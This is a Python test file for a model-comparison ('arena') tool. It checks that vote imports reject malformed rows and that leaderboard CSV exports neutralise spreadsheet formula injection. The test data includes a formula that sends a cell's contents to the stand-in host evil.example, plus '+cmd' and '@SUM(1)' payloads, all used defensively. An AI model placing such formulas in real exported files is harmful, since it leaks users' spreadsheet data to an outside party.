"""Files made to hurt: a model against itself, special files, files past the limits, deep or
badly encoded JSON, formula model names. Each is refused with the row and the file named,
before anything is written, with memory bounded."""

import json
import subprocess
import sys

import pandas as pd
import pytest
from conftest import ROOT

from arena import exchange
from arena.exchange import ImportRejected, import_file, write_export
from arena.records import Battle, Side, Vote
from arena.store import Store
from arena.vote_files import VoteFileError


def arena(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "arena", *args], cwd=ROOT, capture_output=True,
                          text=True, timeout=timeout)


@pytest.fixture
def source(tmp_path) -> Store:
    """Three voted battles between two models."""
    store = Store(tmp_path / "source.db")
    battles = [Battle(category="coding", prompt=f"task {k}", system_prompt="", options={},
                      side_a=Side("qwen3:8b", think="on", answer="a"),
                      side_b=Side("llama3.2:3b", answer="b"),
                      created_at=f"2026-11-1{k}T08:00:00.000Z") for k in range(3)]
    store.save_battles(battles, [Vote(b.id, "model_a", "ann", "2026-11-20T08:00:00.000Z")
                                 for b in battles])
    return store


def flat_export(source: Store, path, change) -> None:
    """`source` exported flat (CSV or Parquet) at `path`, `change(frame)` applied first."""
    form = path.suffix[1:]
    write_export(source, path, form)
    if form == "csv":
        frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        change(frame)
        frame.to_csv(path, index=False)
    else:
        frame = pd.read_parquet(path)
        change(frame)
        frame.to_parquet(path)


def nested_export(source: Store, path, change) -> None:
    """`source` as our JSON Lines export at `path`, `change(record, row)` applied to each."""
    write_export(source, path, "jsonl")
    records = [json.loads(line) for line in path.read_text().splitlines()]
    for row, record in enumerate(records, start=1):
        change(record, row)
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records))


def refused(store: Store, path, match: str) -> str:
    with pytest.raises((ImportRejected, VoteFileError), match=match) as caught:
        import_file(store, path)
    assert store.count_battles() == 0 and store.count_votes() == 0
    return str(caught.value)


# --- a model against itself -----------------------------------------------------------------


def _itself(frame: pd.DataFrame) -> None:
    for name in ("model", "ollama_model", "think"):
        frame.loc[1, f"{name}_b"] = frame.loc[1, f"{name}_a"]


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_a_model_against_itself_is_refused_in_our_flat_files(tmp_path, source, form):
    path = tmp_path / f"votes.{form}"
    flat_export(source, path, _itself)
    refused(Store(tmp_path / "arena.db"), path,
            r"row 2: model_a and model_b are the same model \(qwen3:8b \(thinking\)\)")


def test_a_model_against_itself_is_refused_in_our_json_lines(tmp_path, source):
    def itself(record, row):
        if row == 3:
            record["side_b"].update(model="qwen3:8b", think="on")
            record["model_b"] = record["model_a"]

    path = tmp_path / "votes.jsonl"
    nested_export(source, path, itself)
    refused(Store(tmp_path / "arena.db"), path, r"votes.jsonl: row 3: model_a and model_b are "
                                                r"the same model")


def test_the_same_model_with_thinking_on_and_off_is_two_contestants(tmp_path, source):
    def other_mode(record, row):
        record["side_b"].update(model="qwen3:8b", think="off")

    path = tmp_path / "votes.jsonl"
    nested_export(source, path, other_mode)
    assert import_file(Store(tmp_path / "arena.db"), path).added == 3


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_a_model_against_itself_in_chatbot_arena_rows_and_for_the_leaderboard(tmp_path, form):
    path = tmp_path / f"votes.{form}"
    frame = pd.DataFrame({"model_a": ["x", "y", "z"], "model_b": ["y", "y", "x"],
                          "winner": ["model_a", "tie", "model_b"]})
    if form == "csv":
        frame.to_csv(path, index=False)
    elif form == "jsonl":
        frame.to_json(path, orient="records", lines=True)
    else:
        frame.to_parquet(path)
    refused(Store(tmp_path / "arena.db"), path, "row 2: model_a and model_b are the same model")
    done = arena("leaderboard", "--from", str(path))
    assert done.returncode == 1
    assert "row 2: model_a and model_b are the same model" in done.stderr
    assert "Traceback" not in done.stderr


# --- formula model names in every CSV we write --------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _formula_votes(tmp_path):
    path = tmp_path / "votes.csv"
    pd.DataFrame({"model_a": [FORMULA, "@SUM(1)", "plain"] * 4,
                  "model_b": ["plain", "+cmd", FORMULA] * 4,
                  "winner": ["model_a", "tie", "model_b"] * 4}).to_csv(path, index=False)
    return path


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_the_cli_leaderboard_csv_neutralises_formula_names(tmp_path):
    path = _formula_votes(tmp_path)
    from_file = arena("leaderboard", "--from", str(path), "--format", "csv", "--rounds", "5")
    assert from_file.returncode == 0, from_file.stderr
    db = tmp_path / "arena.db"
    assert arena("import", str(path), "--db", str(db)).returncode == 0
    from_db = arena("leaderboard", "--db", str(db), "--format", "csv", "--rounds", "5")
    for out in (from_file.stdout, from_db.stdout):
        cells = _cells(out)
        assert "'" + FORMULA in cells and "'@SUM(1)" in cells and "'+cmd" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@")]
        # Ratings, even negative ones, stay numbers.
        assert pd.read_csv(pd.io.common.StringIO(out))["rating"].dtype == float


def test_the_leaderboard_page_download_neutralises_formula_names(tmp_path):
    from functools import partial

    from arena import ratings
    from arena.i18n import translate
    from arena.ui.leaderboard_view import download_csv

    votes = pd.read_csv(_formula_votes(tmp_path))
    board = ratings.leaderboard(ratings.count_table(votes), rounds=5)
    for language in ("en", "zh"):
        t = partial(translate, language)
        text = download_csv(board, t).decode("utf-8-sig")
        cells = _cells(text)
        assert "'" + FORMULA in cells and "'@SUM(1)" in cells and "'+cmd" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
        shown = pd.read_csv(pd.io.common.StringIO(text))
        low, high = t("board.col.ci_low"), t("board.col.ci_high")
        assert (shown[low] <= shown[t("board.col.rating")]).all()
        assert (shown[t("board.col.rating")] <= shown[high]).all()


@pytest.mark.parametrize("name, message", [
    ("bell\x07model", r"row 2: model_a has a control character \(U\+0007\)"),
    ("new\nline", r"row 2: model_a has a control character \(U\+000A\)"),
    ("del\x7f", r"row 2: model_a has a control character \(U\+007F\)"),
    ("m" * 201, r"row 2: model_a is 201 characters long \(ARENA_IMPORT_MAX_NAME_CHARS=200\)"),
])
@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_model_names_with_control_characters_or_too_long_are_refused(tmp_path, name, message,
                                                                      form):
    path = tmp_path / f"votes.{form}"
    frame = pd.DataFrame({"model_a": ["x", name, "y"], "model_b": ["y", "y", "x"],
                          "winner": ["model_a", "tie", "model_b"]})
    {"csv": lambda: frame.to_csv(path, index=False),
     "jsonl": lambda: frame.to_json(path, orient="records", lines=True),
     "parquet": lambda: frame.to_parquet(path)}[form]()
    refused(Store(tmp_path / "arena.db"), path, message)


def test_model_names_in_our_own_format_are_checked_too(tmp_path, source):
    def bad(record, row):
        if row == 2:
            record["side_b"]["model"] = "tab\there"

    path = tmp_path / "votes.jsonl"
    nested_export(source, path, bad)
    refused(Store(tmp_path / "arena.db"), path,
            r"row 2: ollama_model_b has a control character \(U\+0009\)")
